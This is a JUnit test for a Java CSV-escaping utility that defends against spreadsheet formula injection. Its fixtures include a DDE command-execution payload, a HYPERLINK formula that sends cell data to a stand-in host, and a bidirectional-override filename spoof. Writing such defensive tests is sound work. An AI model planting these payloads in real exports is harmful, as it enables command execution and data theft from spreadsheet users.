package io.dataops.core.csv;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class CsvFieldsTest {
  @Test
  void exactFieldsAreQuotedWhenTheyHoldACommaAQuoteOrEitherLineBreak() {
    assertThat(CsvFields.exact("plain 文本")).isEqualTo("plain 文本");
    assertThat(CsvFields.exact("a,b")).isEqualTo("\"a,b\"");
    assertThat(CsvFields.exact("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
    assertThat(CsvFields.exact("a\nb")).isEqualTo("\"a\nb\"");
    // A lone carriage return ends a row in Excel: unquoted, the rest of the value became a row of its own.
    assertThat(CsvFields.exact("a\rb")).isEqualTo("\"a\rb\"");
    assertThat(CsvFields.exact("")).isEqualTo("\"\"");
    assertThat(CsvFields.exact(null)).isEmpty();
  }

  @Test
  void exactFieldsKeepWhatASpreadsheetWouldTakeForAFormula() {
    assertThat(CsvFields.exact("=1+2")).isEqualTo("=1+2");
    assertThat(CsvFields.exact("-2+3")).isEqualTo("-2+3");
  }

  @Test
  void spreadsheetFieldsThatWouldBeFormulasBeginWithAnApostrophe() {
    assertThat(CsvFields.forSpreadsheet("=cmd|' /C calc'!A0")).isEqualTo("'=cmd|' /C calc'!A0");
    assertThat(CsvFields.forSpreadsheet("=HYPERLINK(\"http://e.x/?\"&A1,\"查看\")"))
        .isEqualTo("\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"查看\"\")\"");
    assertThat(CsvFields.forSpreadsheet("@SUM(1+1)")).isEqualTo("'@SUM(1+1)");
    assertThat(CsvFields.forSpreadsheet("+1+2")).isEqualTo("'+1+2");
    assertThat(CsvFields.forSpreadsheet("-2+3")).isEqualTo("'-2+3");
    assertThat(CsvFields.forSpreadsheet("-")).isEqualTo("'-");
    assertThat(CsvFields.forSpreadsheet("\t=1")).isEqualTo("'\t=1");
    // A carriage return is shown (␍), as every control character but line feeds and tabs: no formula either way.
    assertThat(CsvFields.forSpreadsheet("\r=1")).isEqualTo("␍=1");
  }

  @Test
  void spreadsheetFieldsShowControlCharactersAndBidirectionalOverrides() {
    assertThat(CsvFields.forSpreadsheet("ab\u0000cd")).isEqualTo("ab␀cd");
    assertThat(CsvFields.forSpreadsheet("\u202egnp.exe")).isEqualTo("<U+202E>gnp.exe");
    assertThat(CsvFields.forSpreadsheet("line\nnext")).isEqualTo("\"line\nnext\"");
    assertThat(CsvFields.exact("ab\u0000\u202ecd")).as("a program's copy stays exact").isEqualTo("ab\u0000\u202ecd");
  }

  @Test
  void spreadsheetFieldsLeaveNumbersAndOtherTextsAsTheyAre() {
    for (String number : new String[] {"-5", "+1.5", "-0.25", "-.5", "2e3", "-1E-7", "3."}) {
      assertThat(CsvFields.forSpreadsheet(number)).as(number).isEqualTo(number);
    }
    assertThat(CsvFields.forSpreadsheet("record_id==x")).isEqualTo("record_id==x");
    assertThat(CsvFields.forSpreadsheet(" =1+2")).isEqualTo(" =1+2");
    assertThat(CsvFields.forSpreadsheet("福田街道")).isEqualTo("福田街道");
    assertThat(CsvFields.forSpreadsheet("a,=b")).isEqualTo("\"a,=b\"");
    assertThat(CsvFields.forSpreadsheet("")).isEqualTo("\"\"");
    assertThat(CsvFields.forSpreadsheet(null)).isEmpty();
  }
}
